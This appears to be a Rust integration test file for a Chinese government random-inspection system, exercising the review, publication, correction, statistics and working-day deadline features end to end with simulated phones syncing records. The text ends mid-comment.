//! Review, publication, outcomes, deadlines, statistics and the calendar
//! admin, end to end: a real server and database, real record documents
//! filled on simulated phones and synced through the server's sync exchange.

use automerge::ReadDoc;
use automerge::transaction::Transactable;
use reqwest::StatusCode;
use serde_json::{Value, json};
use suiji_mobile_core::RecordDoc;
use suiji_mobile_core::record::Submission;
use suiji_mobile_core::vocab::{FollowUpMeasure, Method, ResultCategory, ReviewState};
use suiji_server::calendar::Calendar;
use suiji_server::draw::records::{self, RecordSummary};
use suiji_server::memory_phone::MemoryPhone as Phone;
use suiji_tests::{Client, TestServer, seed_agency};

/// Syncs a phone through `suiji_server::sync::exchange` on the server's database, each
/// round in a write transaction of its own (blocking briefly: the test awaits nothing else
/// meanwhile).
pub(crate) fn sync(phone: &mut Phone, server: &TestServer) {
    let (db, memory) = (&server.state.db, &server.state.sync);
    let syncer = phone.syncer();
    phone
        .sync(|request| {
            db.write_blocking(|tx| suiji_server::sync::exchange(tx, memory, &syncer, request))
        })
        .expect("sync accepted");
}

/// Answers every item as checked on site with `finding`, and sets results and follow-up.
pub(crate) fn fill(
    doc: &mut RecordDoc,
    finding: &str,
    results: &[ResultCategory],
    follow_up: Option<(FollowUpMeasure, Option<&str>)>,
) {
    for item in doc.assignment().unwrap().items {
        doc.set_checked(&item.code, true).unwrap();
        doc.set_methods(&item.code, &[Method::OnSite]).unwrap();
        doc.set_finding(&item.code, finding).unwrap();
    }
    doc.set_result_categories(results).unwrap();
    if let Some((measure, deadline)) = follow_up {
        doc.set_follow_up(
            Some(measure),
            deadline.map(|d| d.parse().unwrap()),
            Some("限期整改"),
        )
        .unwrap();
    } else {
        doc.set_follow_up(Some(FollowUpMeasure::None), None, None)
            .unwrap();
    }
}

/// Both phones converge, both inspectors sign (syncing in between), then the
/// first submits and syncs.
pub(crate) async fn sign_and_submit(server: &TestServer, a: &mut Phone, b: &mut Phone, id: &str) {
    sync(a, server);
    sync(b, server);
    sync(a, server);
    a.sign(id).unwrap();
    sync(a, server);
    sync(b, server);
    b.sign(id).unwrap();
    sync(b, server);
    sync(a, server);
    let me = a.inspector_id();
    let outcome = a.doc(id).unwrap().submit(&me).unwrap();
    assert!(
        matches!(
            outcome,
            suiji_mobile_core::record::SubmitOutcome::Submitted { .. }
        ),
        "{outcome:?}"
    );
    sync(a, server);
}

/// Approves record `id` as `supervisor`, then publishes its result.
pub(crate) async fn approve_and_publish(supervisor: &Client, id: &str) {
    for (action, status) in [
        ("approve", StatusCode::OK),
        ("publish", StatusCode::CREATED),
    ] {
        let (s, body) = supervisor
            .post(&format!("/api/v1/records/{id}/{action}"), &json!({}))
            .await;
        assert_eq!(s, status, "{action}: {body}");
    }
}

pub(crate) struct Scenario {
    pub(crate) task_id: i64,
    pub(crate) records: Vec<RecordSummary>,
}

pub(crate) async fn make_task(planner: &Client, plan_id: i64, number: &str, extra: Value) -> i64 {
    let mut body = json!({
        "number": number, "name": "餐饮服务食品安全定向抽查", "directed": true,
        "conditions": {"industries": ["餐饮业"], "risk_classes": ["A"]}, "count": 2,
        "items": [{"code": "SCJG-SP-002"}],
        "window_start": "2026-09-01", "window_end": "2026-11-20",
    });
    for (k, v) in extra.as_object().unwrap() {
        body[k] = v.clone();
    }
    let (s, task) = planner
        .post(&format!("/api/v1/plans/{plan_id}/tasks"), &body)
        .await;
    assert_eq!(s, StatusCode::CREATED, "{task}");
    task["id"].as_i64().unwrap()
}

async fn draw(server: &TestServer, planner: &Client, task_id: i64) -> Vec<RecordSummary> {
    let (s, c) = planner
        .post(&format!("/api/v1/tasks/{task_id}/draw/commit"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::CREATED, "{c}");
    let (s, d) = planner
        .post(
            &format!("/api/v1/tasks/{task_id}/draw"),
            &json!({"commitment_id": c["id"], "entropy": suiji_tests::observers()}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{d}");
    server
        .state
        .db
        .read(move |c| records::list(c, Some(task_id), None))
        .await
        .unwrap()
}

pub(crate) async fn scenario(server: &TestServer, count: u32) -> Scenario {
    let agency = seed_agency(server, 3, 30).await;
    let planner = server.login("planner").await;
    let task_id = make_task(&planner, agency.plan_id, "T-REV-1", json!({"count": count})).await;
    let records = draw(server, &planner, task_id).await;
    suiji_tests::publish_drawn_list(&planner, task_id).await;
    Scenario { task_id, records }
}

/// Phones for both members of a record's group.
pub(crate) async fn phones(server: &TestServer, record: &RecordSummary) -> (Phone, Phone) {
    let a = Phone::new(record.group[0], "a1").unwrap();
    let b = Phone::new(record.group[1], "b2").unwrap();
    server
        .state
        .db
        .write_blocking(|tx| {
            a.register_key(tx)?;
            b.register_key(tx)
        })
        .unwrap();
    let (mut a, mut b) = (a, b);
    sync(&mut a, server);
    sync(&mut b, server);
    (a, b)
}

fn text(v: &Value) -> String {
    v.to_string()
}

#[tokio::test]
async fn returned_record_reaches_both_phones_then_is_resubmitted_approved_and_published_without_personal_data()
 {
    let server = TestServer::start().await;
    let sc = scenario(&server, 1).await;
    let record = sc.records[0].clone();
    let id = record.id.clone();
    let (mut a, mut b) = phones(&server, &record).await;

    // Offline on two phones: A answers the items, B takes the party's statement.
    fill(
        a.doc(&id).unwrap(),
        "后厨卫生良好",
        &[ResultCategory::NoProblem],
        None,
    );
    b.doc(&id).unwrap().set_party_statement("无异议").unwrap();
    sign_and_submit(&server, &mut a, &mut b, &id).await;

    let supervisor = server.login("supervisor").await;
    let (s, queue) = supervisor.get("/api/v1/review/queue").await;
    assert_eq!(s, StatusCode::OK, "{queue}");
    assert_eq!(queue["total"], 1, "{queue}");
    let line = &queue["items"][0];
    assert_eq!(line["id"], id.as_str());
    assert_eq!(line["state"], "submitted");
    assert_eq!(line["round"], 1);
    assert_eq!(line["has_conflicts"], false);
    assert_eq!(line["you_inspected"], false);
    assert!(line["deadline"].is_string(), "{line}");

    let (s, view) = supervisor.get(&format!("/api/v1/records/{id}")).await;
    assert_eq!(s, StatusCode::OK, "{view}");
    assert_eq!(
        view["items"][0]["legal_basis"],
        "《中华人民共和国食品安全法》第一百一十条"
    );
    assert_eq!(view["items"][0]["finding"], "后厨卫生良好");
    assert_eq!(view["items"][0]["methods"][0]["label"], "实地检查");
    assert_eq!(view["party"]["statement"], "无异议");
    assert_eq!(view["signatures"].as_array().unwrap().len(), 2);
    assert_eq!(view["results"][0]["label"], "未发现问题");
    assert_eq!(view["review"]["state"], "submitted");
    assert_eq!(view["publication"]["counted_from_kind"], "inspection_ended");
    assert!(view["publication"]["working_days_left"].is_i64(), "{view}");

    // Approving needs a submitted record; publishing needs an approved one.
    let (s, err) = supervisor
        .post(&format!("/api/v1/records/{id}/publish"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{err}");

    let comment = "请补充后厨检查的具体情况";
    let (s, returned) = supervisor
        .post(
            &format!("/api/v1/records/{id}/return"),
            &json!({"comment": comment}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{returned}");
    assert_eq!(returned["review"]["state"], "returned");
    let (s, err) = supervisor
        .post(
            &format!("/api/v1/records/{id}/return"),
            &json!({"comment": " "}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
    assert_eq!(err["error"]["field"], "comment");

    // Both phones see the return and its comment at their next sync.
    for phone in [&mut a, &mut b] {
        sync(phone, &server);
        let review = phone.doc(&id).unwrap().review().unwrap();
        assert_eq!(review.state, ReviewState::Returned);
        assert_eq!(
            review.history.last().unwrap().comment.as_deref(),
            Some(comment)
        );
        assert!(phone.doc(&id).unwrap().is_editable().unwrap());
    }

    // Corrected, signed again and resubmitted as round 2.
    let item = a.doc(&id).unwrap().assignment().unwrap().items[0]
        .code
        .clone();
    a.doc(&id)
        .unwrap()
        .set_finding(
            &item,
            "后厨卫生良好，从业人员健康证明齐全，冷藏设施运行正常",
        )
        .unwrap();
    sign_and_submit(&server, &mut a, &mut b, &id).await;
    let (_, queue) = supervisor.get("/api/v1/review/queue").await;
    assert_eq!(queue["items"][0]["round"], 2, "{queue}");
    assert_eq!(queue["items"][0]["state"], "submitted");

    let (s, approved) = supervisor
        .post(
            &format!("/api/v1/records/{id}/approve"),
            &json!({"comment": "同意"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{approved}");
    let history = approved["review"]["history"].as_array().unwrap();
    let states: Vec<&str> = history
        .iter()
        .map(|e| e["state"].as_str().unwrap())
        .collect();
    assert_eq!(
        states,
        ["submitted", "returned", "submitted", "approved"],
        "every round is kept"
    );

    // Nothing is public before publication.
    let anonymous = Client::anonymous(&server.base);
    let (_, public) = anonymous.get("/api/v1/public/results").await;
    assert_eq!(public["total"], 0);

    let (s, published) = supervisor
        .post(&format!("/api/v1/records/{id}/publish"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::CREATED, "{published}");

    let (s, public) = anonymous.get("/api/v1/public/results?q=杭州测试").await;
    assert_eq!(s, StatusCode::OK, "{public}");
    assert_eq!(public["total"], 1, "{public}");
    let result = &public["items"][0];
    let task: Value = {
        let planner = server.login("planner").await;
        planner
            .get(&format!("/api/v1/tasks/{}", sc.task_id))
            .await
            .1
    };
    assert_eq!(result["plan_number"], "P-2026-DRAW");
    assert_eq!(result["plan_name"], "2026年度抽查计划");
    assert_eq!(result["task_number"], task["number"]);
    assert_eq!(result["task_name"], "餐饮服务食品安全定向抽查");
    assert_eq!(result["inspection_type"], "定向");
    assert_eq!(result["agency"], "市场监督管理局");
    assert_eq!(result["result"], "未发现问题");
    assert_eq!(result["items"][0]["name"], "餐饮服务提供者经营活动的检查");
    assert_eq!(result["items"][0]["result"], "未发现问题");
    assert_eq!(result["target_name"], record.target_name.as_str());
    assert_eq!(result["uscc"].as_str().unwrap().len(), 18);
    assert!(result["completed_on"].is_string());
    assert_eq!(result["corrected"], false);
    // No inspector, finding, note or photo anywhere in the public answer.
    let public_text = text(&public);
    let assignment = a.doc(&id).unwrap().assignment().unwrap();
    for inspector in &assignment.inspectors {
        assert!(!public_text.contains(&inspector.name), "{public_text}");
        assert!(!public_text.contains(&inspector.cert_no), "{public_text}");
    }
    for secret in [
        "后厨卫生良好",
        "无异议",
        "inspector",
        "photo",
        "note",
        "signature",
    ] {
        assert!(
            !public_text.contains(secret),
            "{secret} leaked: {public_text}"
        );
    }
    // Searchable by code, and a search for something else finds nothing.
    let uscc = result["uscc"].as_str().unwrap().to_owned();
    let (_, by_code) = anonymous
        .get(&format!("/api/v1/public/results?q={uscc}"))
        .await;
    assert_eq!(by_code["total"], 1);
    let (_, none) = anonymous.get("/api/v1/public/results?q=不存在的公司").await;
    assert_eq!(none["total"], 0);

    // The target now knows its last inspection.
    let (s, outcome) = supervisor
        .get(&format!("/api/v1/targets/{}/outcome", record.target_id))
        .await;
    assert_eq!(s, StatusCode::OK, "{outcome}");
    assert_eq!(outcome["last_result"], "未发现问题");
    assert_eq!(outcome["last_inspected_on"], result["completed_on"]);
    assert_eq!(outcome["last_record_id"], id.as_str());
    assert_eq!(outcome["records_per_year"][0]["records"], 1);

    // A published record takes no more changes from phones; it stays published.
    sync(&mut a, &server);
    assert_eq!(
        a.doc(&id).unwrap().review().unwrap().state,
        ReviewState::Published
    );
    let (_, again) = supervisor
        .post(&format!("/api/v1/records/{id}/publish"), &json!({}))
        .await;
    assert_eq!(again["error"]["code"], "conflict");
}

#[tokio::test]
async fn a_supervisor_who_was_in_the_group_cannot_review_or_publish_it() {
    let server = TestServer::start().await;
    let sc = scenario(&server, 1).await;
    let record = sc.records[0].clone();
    let id = record.id.clone();
    let (mut a, mut b) = phones(&server, &record).await;
    fill(
        a.doc(&id).unwrap(),
        "正常",
        &[ResultCategory::NoProblem],
        None,
    );
    sign_and_submit(&server, &mut a, &mut b, &id).await;

    // Make the group's second member a supervisor too.
    let member = record.group[1];
    let (user_id, username): (i64, String) = server
        .state
        .db
        .read(move |c| {
            c.query_row(
                "SELECT u.id, u.username FROM inspectors i JOIN users u ON u.id = i.user_id WHERE i.id = ?1",
                [member],
                |r| Ok((r.get(0)?, r.get(1)?)),
            )
        })
        .await
        .unwrap();
    let admin = server.login("admin").await;
    let (s, body) = admin
        .send(
            admin
                .raw(reqwest::Method::PATCH, &format!("/api/v1/users/{user_id}"))
                .json(&json!({"roles": ["inspector", "supervisor"]})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let member_client = server.login(&username).await;

    let (_, queue) = member_client.get("/api/v1/review/queue").await;
    assert_eq!(queue["items"][0]["you_inspected"], true, "{queue}");
    for action in ["approve", "return"] {
        let (s, err) = member_client
            .post(
                &format!("/api/v1/records/{id}/{action}"),
                &json!({"comment": "自己审自己"}),
            )
            .await;
        assert_eq!(s, StatusCode::FORBIDDEN, "{action}: {err}");
    }
    // A plain inspector may not review at all.
    let inspector = server.login("inspector").await;
    let (s, _) = inspector
        .post(&format!("/api/v1/records/{id}/approve"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);

    // Another supervisor approves; the member still cannot publish.
    let supervisor = server.login("supervisor").await;
    let (s, body) = supervisor
        .post(&format!("/api/v1/records/{id}/approve"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let (s, _) = member_client
        .post(&format!("/api/v1/records/{id}/publish"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (_, outcome) = member_client
        .post(
            &format!("/api/v1/tasks/{}/publish-results", sc.task_id),
            &json!({}),
        )
        .await;
    assert_eq!(outcome["published"].as_array().unwrap().len(), 0);
    assert_eq!(outcome["skipped"][0]["record_id"], id.as_str(), "{outcome}");
}

#[tokio::test]
async fn correction_keeps_the_old_version_visible_as_corrected_and_exports_show_it() {
    let server = TestServer::start().await;
    let sc = scenario(&server, 2).await;
    let supervisor = server.login("supervisor").await;
    for (n, record) in sc.records.iter().enumerate() {
        let id = record.id.clone();
        let (mut a, mut b) = phones(&server, record).await;
        fill(
            a.doc(&id).unwrap(),
            &format!("检查情况{n}"),
            &[ResultCategory::NoProblem],
            None,
        );
        sign_and_submit(&server, &mut a, &mut b, &id).await;
        let (s, body) = supervisor
            .post(&format!("/api/v1/records/{id}/approve"), &json!({}))
            .await;
        assert_eq!(s, StatusCode::OK, "{body}");
    }
    let (s, outcome) = supervisor
        .post(
            &format!("/api/v1/tasks/{}/publish-results", sc.task_id),
            &json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{outcome}");
    assert_eq!(
        outcome["published"].as_array().unwrap().len(),
        2,
        "{outcome}"
    );
    let result_id = outcome["published"][0]["result_id"].as_i64().unwrap();

    // A correction needs a reason and must change something.
    let (s, err) = supervisor
        .post(
            &format!("/api/v1/results/{result_id}/corrections"),
            &json!({"reason": "", "results": ["not_publicized"]}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
    let (s, err) = supervisor
        .post(
            &format!("/api/v1/results/{result_id}/corrections"),
            &json!({"reason": "录入错误", "results": ["fine"]}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
    assert_eq!(err["error"]["field"], "results[0]");

    let (s, corrected) = supervisor
        .post(
            &format!("/api/v1/results/{result_id}/corrections"),
            &json!({"reason": "经复核，该企业未按规定公示年度报告", "results": ["not_publicized"]}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{corrected}");

    let anonymous = Client::anonymous(&server.base);
    let (_, entry) = anonymous
        .get(&format!("/api/v1/public/results/{result_id}"))
        .await;
    assert_eq!(entry["version"], 2);
    assert_eq!(entry["corrected"], true);
    assert_eq!(entry["status"], "已更正");
    assert_eq!(entry["result"], "未按规定公示应当公示的信息");
    assert_eq!(entry["items"][0]["result"], "未按规定公示应当公示的信息");
    assert_eq!(
        entry["correction_reason"],
        "经复核，该企业未按规定公示年度报告"
    );
    let old = &entry["previous_versions"][0];
    assert_eq!(old["version"], 1);
    assert_eq!(old["status"], "已更正");
    assert_eq!(old["result"], "未发现问题", "the old version stays visible");
    assert!(old["corrected_at"].is_string());

    // The stored versions cannot be edited behind the API's back.
    let tamper = server
        .state
        .db
        .write(move |tx| {
            tx.execute(
                "UPDATE result_versions SET content = '{}' WHERE result_id = ?1",
                [result_id],
            )?;
            Ok(())
        })
        .await;
    assert!(tamper.is_err(), "result versions are immutable");

    // Exports: JSON and CSV with a BOM, in Chinese, the corrected line marked.
    let (s, exported) = anonymous
        .get(&format!("/api/v1/public/tasks/{}/results.json", sc.task_id))
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(exported["results"].as_array().unwrap().len(), 2);
    let response = reqwest::get(format!(
        "{}/api/v1/public/tasks/{}/results.csv",
        server.base, sc.task_id
    ))
    .await
    .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let bytes = response.bytes().await.unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 byte-order mark");
    let csv = std::str::from_utf8(&bytes[3..]).unwrap();
    assert!(
        csv.starts_with(
            "抽查计划编号,抽查计划名称,抽查任务编号,抽查任务名称,抽查类型,检查实施机关"
        )
    );
    assert!(csv.contains("已更正"), "{csv}");
    assert!(csv.contains("未按规定公示应当公示的信息"), "{csv}");
    assert!(
        !csv.contains("检查情况"),
        "no findings in the export: {csv}"
    );

    // The target's last result follows the correction.
    let target_id = sc
        .records
        .iter()
        .find(|r| r.id == outcome["published"][0]["record_id"].as_str().unwrap())
        .unwrap()
        .target_id;
    let (_, target) = supervisor
        .get(&format!("/api/v1/targets/{target_id}/outcome"))
        .await;
    assert_eq!(target["last_result"], "未按规定公示应当公示的信息");
}

#[tokio::test]
async fn unreachable_and_rectification_results_create_candidates_and_follow_ups() {
    let server = TestServer::start().await;
    let sc = scenario(&server, 2).await;
    let supervisor = server.login("supervisor").await;
    let outcomes = [
        (vec![ResultCategory::Unreachable], None),
        (
            vec![ResultCategory::Rectified],
            Some((FollowUpMeasure::OrderRectification, Some("2026-12-31"))),
        ),
    ];
    for (record, (results, follow_up)) in sc.records.iter().zip(outcomes) {
        let id = record.id.clone();
        let (mut a, mut b) = phones(&server, record).await;
        fill(a.doc(&id).unwrap(), "现场核查", &results, follow_up);
        sign_and_submit(&server, &mut a, &mut b, &id).await;
        let (s, body) = supervisor
            .post(&format!("/api/v1/records/{id}/approve"), &json!({}))
            .await;
        assert_eq!(s, StatusCode::OK, "{body}");
        let (s, body) = supervisor
            .post(&format!("/api/v1/records/{id}/publish"), &json!({}))
            .await;
        assert_eq!(s, StatusCode::CREATED, "{body}");
    }
    let (s, candidates) = supervisor
        .get("/api/v1/abnormal-candidates?as_of=2026-11-23")
        .await;
    assert_eq!(s, StatusCode::OK, "{candidates}");
    let list = candidates.as_array().unwrap();
    assert_eq!(list.len(), 1, "{candidates}");
    assert_eq!(list[0]["category"], "unreachable");
    assert_eq!(list[0]["target_id"], sc.records[0].target_id);
    let verified = list[0]["verified_on"].as_str().unwrap().to_owned();
    let expected = Calendar::official()
        .add_working_days(verified.parse().unwrap(), 10)
        .unwrap();
    assert_eq!(list[0]["deadline"], expected.to_string());

    let (_, follow_ups) = supervisor.get("/api/v1/follow-ups").await;
    let list = follow_ups.as_array().unwrap();
    assert_eq!(list.len(), 1, "{follow_ups}");
    assert_eq!(list[0]["measure"], "order_rectification");
    assert_eq!(list[0]["measure_label"], "责令改正");
    assert_eq!(list[0]["deadline"], "2026-12-31");
    assert_eq!(list[0]["target_id"], sc.records[1].target_id);

    // The candidate's deadline is on the deadlines list too.
    let (_, due) = supervisor
        .get(&format!(
            "/api/v1/deadlines?within_days=10&as_of={verified}"
        ))
        .await;
    assert!(
        due["due_soon"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "abnormal_candidate"),
        "{due}"
    );
}

/// Overwrites the time of a phone's last submission, as a phone that
/// submitted offline long ago would have written it.
fn backdate_submission(doc: &mut RecordDoc, at: &str) {
    let mut submission: Submission = doc.submissions().unwrap().pop().unwrap();
    submission.at = at.parse().unwrap();
    let obj = match doc.automerge().get(automerge::ROOT, "submissions").unwrap() {
        Some((_, id)) => id,
        None => panic!("no submissions map"),
    };
    doc.automerge_mut()
        .put(
            &obj,
            submission.round.to_string(),
            serde_json::to_string(&submission).unwrap(),
        )
        .unwrap();
    doc.automerge_mut().commit();
}

#[tokio::test]
async fn monthly_statistics_match_a_hand_count() {
    let server = TestServer::start().await;
    let agency = seed_agency(&server, 3, 30).await;
    let planner = server.login("planner").await;
    let supervisor = server.login("supervisor").await;
    // Of the 30 targets, 9 are in risk class A and 6 in class C.
    // Task 1: SCJG, two of the 9 class A targets. Task 2: joint SCJG + YJGL,
    // one of the 6 class C targets.
    let t1 = make_task(&planner, agency.plan_id, "T-ST-1", json!({"count": 2})).await;
    let t2 = make_task(
        &planner,
        agency.plan_id,
        "T-ST-2",
        json!({"count": 1, "joint": true,
               "conditions": {"industries": ["餐饮业"], "risk_classes": ["C"]},
               "items": [{"code": "SCJG-SP-002"}, {"code": "YJGL-WH-001"}]}),
    )
    .await;
    // Results published today are due 20 working days after today, which may fall in a year the
    // shipped calendar does not cover yet (from December on): then a schedule for it is loaded,
    // or their deadline would be unknown rather than met.
    let next_year = suiji_server::review::china_today().to_string()[..4]
        .parse::<i32>()
        .unwrap()
        + 1;
    if !Calendar::official().years().any(|y| y == next_year) {
        let admin = server.login("admin").await;
        let schedule = json!({"year": next_year, "papers": [], "days": [
            {"name": "元旦", "date": format!("{next_year}-01-01"), "isOffDay": true}
        ]});
        let (s, body) = admin.post("/api/v1/admin/calendar", &schedule).await;
        assert_eq!(s, StatusCode::CREATED, "{body}");
    }
    let r1 = draw(&server, &planner, t1).await;
    let r2 = draw(&server, &planner, t2).await;
    suiji_tests::publish_drawn_list(&planner, t1).await;
    suiji_tests::publish_drawn_list(&planner, t2).await;
    assert_eq!((r1.len(), r2.len()), (2, 1));
    let plan: Vec<(RecordSummary, Vec<ResultCategory>, bool)> = vec![
        (r1[0].clone(), vec![ResultCategory::NoProblem], false),
        // Submitted offline on 1 September: published late.
        (r1[1].clone(), vec![ResultCategory::NotPublicized], true),
        (r2[0].clone(), vec![ResultCategory::NoProblem], false),
    ];
    for (record, results, late) in &plan {
        let id = record.id.clone();
        let (mut a, mut b) = phones(&server, record).await;
        fill(a.doc(&id).unwrap(), "现场核查", results, None);
        sync(&mut a, &server);
        sync(&mut b, &server);
        a.sign(&id).unwrap();
        sync(&mut a, &server);
        sync(&mut b, &server);
        b.sign(&id).unwrap();
        sync(&mut b, &server);
        sync(&mut a, &server);
        let me = a.inspector_id();
        a.doc(&id).unwrap().submit(&me).unwrap();
        if *late {
            backdate_submission(a.doc(&id).unwrap(), "2026-09-01T02:00:00Z");
        }
        sync(&mut a, &server);
        let (s, body) = supervisor
            .post(&format!("/api/v1/records/{id}/approve"), &json!({}))
            .await;
        assert_eq!(s, StatusCode::OK, "{body}");
        let (s, body) = supervisor
            .post(&format!("/api/v1/records/{id}/publish"), &json!({}))
            .await;
        assert_eq!(s, StatusCode::CREATED, "{body}");
    }
    let today = suiji_server::review::china_today();
    let today = today.to_string();
    let year: i32 = today[..4].parse().unwrap();
    let month: u32 = today[5..7].parse().unwrap();
    let (s, stats) = supervisor
        .get(&format!("/api/v1/stats?year={year}&month={month}"))
        .await;
    assert_eq!(s, StatusCode::OK, "{stats}");
    let row = |code: &str| {
        stats["departments"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["department"] == code)
            .unwrap()
            .clone()
    };
    // Hand count. SCJG: both tasks (15 in scope, 3 drawn), items checked 3
    // (one per record), results 未发现问题 2, 未按规定公示 1, one published late.
    let scjg = row("SCJG");
    assert_eq!(scjg["tasks"], 2);
    assert_eq!(scjg["targets_in_scope"], 15);
    assert_eq!(scjg["drawn"], 3);
    assert_eq!(scjg["ratio"], 0.2);
    assert_eq!(scjg["items_checked"], 3);
    assert_eq!(scjg["results"]["no_problem"], 2);
    assert_eq!(scjg["results"]["not_publicized"], 1);
    assert_eq!(scjg["results"]["unreachable"], 0);
    assert_eq!(scjg["published"], 3);
    assert_eq!(scjg["published_on_time"], 2, "{scjg}");
    assert_eq!(scjg["published_late"], 1);
    // YJGL: only the joint task (6 in scope, 1 drawn), its own item checked once.
    let yjgl = row("YJGL");
    assert_eq!(yjgl["tasks"], 1);
    assert_eq!(yjgl["targets_in_scope"], 6);
    assert_eq!(yjgl["drawn"], 1);
    assert_eq!(yjgl["ratio"], 0.1667);
    assert_eq!(yjgl["items_checked"], 1);
    assert_eq!(yjgl["results"]["no_problem"], 1);
    assert_eq!(yjgl["published_on_time"], 1);
    // The agency counts each task and item once: 4 items (1 + 1 + 2).
    let all = &stats["agency"];
    assert_eq!(all["tasks"], 2);
    assert_eq!(all["targets_in_scope"], 15);
    assert_eq!(all["drawn"], 3);
    assert_eq!(all["items_checked"], 4);
    assert_eq!(all["results"]["no_problem"], 2);
    assert_eq!(all["published"], 3);
    assert_eq!(all["published_late"], 1);

    // Another month is empty; the year holds the same numbers.
    let (_, other) = supervisor
        .get(&format!("/api/v1/stats?year={}&month={month}", year - 1))
        .await;
    assert_eq!(other["agency"]["tasks"], 0);
    let (_, whole) = supervisor.get(&format!("/api/v1/stats?year={year}")).await;
    assert_eq!(whole["agency"], stats["agency"]);

    let response = supervisor
        .raw(
            reqwest::Method::GET,
            &format!("/api/v1/stats?year={year}&month={month}&format=csv"),
        )
        .send()
        .await
        .unwrap();
    let bytes = response.bytes().await.unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let csv = std::str::from_utf8(&bytes[3..]).unwrap();
    let last = csv.lines().last().unwrap();
    assert!(last.starts_with("合计,全部,2,15,3,20.00%,4,2,"), "{csv}");
    let (s, err) = supervisor.get("/api/v1/stats?year=2026&month=13").await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
}

/// A 2027 schedule in holiday-cn's format (New Year's Day only).
fn year_2027() -> Value {
    json!({"year": 2027, "papers": [], "days": [
        {"name": "元旦", "date": "2027-01-01", "isOffDay": true}
    ]})
}

#[tokio::test]
async fn deadlines_count_working_days_around_holidays_and_report_uncovered_years() {
    let server = TestServer::start().await;
    // Two tasks are drawn from the same few A-class targets; when both draw the same target,
    // its second group may not repeat the first (the last-group rule), which three
    // inspectors of the department (a group of two, and one left) could not satisfy.
    let agency = seed_agency(&server, 6, 30).await;
    let planner = server.login("planner").await;
    // Window ends the day before the National Day holiday (1–7 October 2026).
    let autumn = make_task(
        &planner,
        agency.plan_id,
        "T-DL-1",
        json!({"count": 1, "window_end": "2026-09-30"}),
    )
    .await;
    // Window ends in mid-December: 20 working days reach into 2027, which has
    // no schedule. The draw goes ahead with a provisional deadline (16–18,
    // 21–25, 28–31 December, 1, 4–8, 11, 12 January, 2027 counted Monday to
    // Friday); tests/tests/api/provisional_deadlines.rs follows it further.
    let winter = make_task(
        &planner,
        agency.plan_id,
        "T-DL-2",
        json!({"count": 1, "window_end": "2026-12-15"}),
    )
    .await;
    let winter_records = draw(&server, &planner, winter).await;
    assert_eq!(winter_records[0].deadline, "2027-01-12");
    assert!(winter_records[0].deadline_provisional);
    let autumn_records = draw(&server, &planner, autumn).await;

    let supervisor = server.login("supervisor").await;
    // Before the drawn list is published, its records' deadlines are the
    // planner's to see, not the supervisor's (docs/draw.md).
    let (_, due) = supervisor
        .get("/api/v1/deadlines?within_days=5&as_of=2026-10-30")
        .await;
    assert!(!text(&due).contains("record_result"), "{due}");
    // 30 Sep + 20 working days: 8, 9, 10 (Saturday make-up day), 12–16,
    // 19–23, 26–30 October, 2 and 3 November.
    let (s, due) = planner
        .get("/api/v1/deadlines?within_days=5&as_of=2026-10-30")
        .await;
    assert_eq!(s, StatusCode::OK, "{due}");
    let record = due["due_soon"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "record_result")
        .unwrap_or_else(|| panic!("{due}"))
        .clone();
    assert_eq!(record["record_id"], autumn_records[0].id.as_str());
    assert_eq!(record["deadline"], "2026-11-03");
    assert_eq!(record["counted_from_kind"], "window_end");
    assert_eq!(record["working_days_left"], 2, "2 and 3 November");
    // The drawn list: 5 working days after the draw (today), until published.
    let drawn_on = suiji_server::review::china_today();
    let list_deadline = Calendar::official().deadline(drawn_on, 5).value;
    let (_, due) = supervisor
        .get(&format!("/api/v1/deadlines?within_days=5&as_of={drawn_on}"))
        .await;
    let list = due["due_soon"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "drawn_list" && e["task_id"] == autumn)
        .unwrap_or_else(|| panic!("{due}"))
        .clone();
    assert_eq!(list["deadline"], list_deadline.to_string());
    // Overdue the day after; the list once published is gone.
    let (_, due) = planner
        .get("/api/v1/deadlines?within_days=5&as_of=2026-11-04")
        .await;
    assert!(
        due["overdue"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["record_id"] == autumn_records[0].id.as_str()),
        "{due}"
    );
    let (s, _) = planner
        .post(&format!("/api/v1/tasks/{autumn}/draw/publish"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::OK);
    let (_, due) = supervisor
        .get(&format!("/api/v1/deadlines?within_days=5&as_of={drawn_on}"))
        .await;
    assert!(
        !due["due_soon"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "drawn_list" && e["task_id"] == autumn),
        "published lists have no deadline: {due}"
    );
    // The overdue filter of the queue uses the same clock.
    let (_, queue) = supervisor
        .get("/api/v1/review/queue?status=all&overdue=true")
        .await;
    assert_eq!(queue["total"], 0, "nothing submitted yet: {queue}");

    // An inspection that ended on 21 December has its deadline in 2027, for
    // which the calendar has no schedule: provisional, 2027 counted Monday to
